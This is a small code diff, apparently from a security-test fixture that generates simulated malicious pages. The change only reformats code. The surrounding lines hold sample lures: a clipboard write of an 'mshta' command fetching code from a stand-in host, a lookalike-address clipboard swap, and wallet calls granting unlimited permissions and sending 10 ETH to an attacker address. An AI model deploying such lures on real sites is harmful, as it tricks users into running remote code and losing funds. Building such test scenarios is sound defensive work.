@@ -112,8 +112,11 @@ on('send', () => {
 })
 on('fix', () => navigator.clipboard.writeText('mshta https://pochard-desk.test/fix'))
 on('pay', () => navigator.clipboard.writeText('${ADDRESS.slice(0, 38)}' + '0000'))
-${onPress('plan', `  await request('wallet_grantPermissions', [{ permission: { data: { periodAmount: '0x${'ff'.repeat(32)}' } } }]).catch(() => undefined)
-  await request('eth_sendTransaction', [{ from: account, to: '${ADDRESS}', value: '0x8ac7230489e80000' }])`)}`,
+${onPress(
+  'plan',
+  `  await request('wallet_grantPermissions', [{ permission: { data: { periodAmount: '0x${'ff'.repeat(32)}' } } }]).catch(() => undefined)
+  await request('eth_sendTransaction', [{ from: account, to: '${ADDRESS}', value: '0x8ac7230489e80000' }])`,
+)}`,
     ),
   },
   'tufted-desk': {
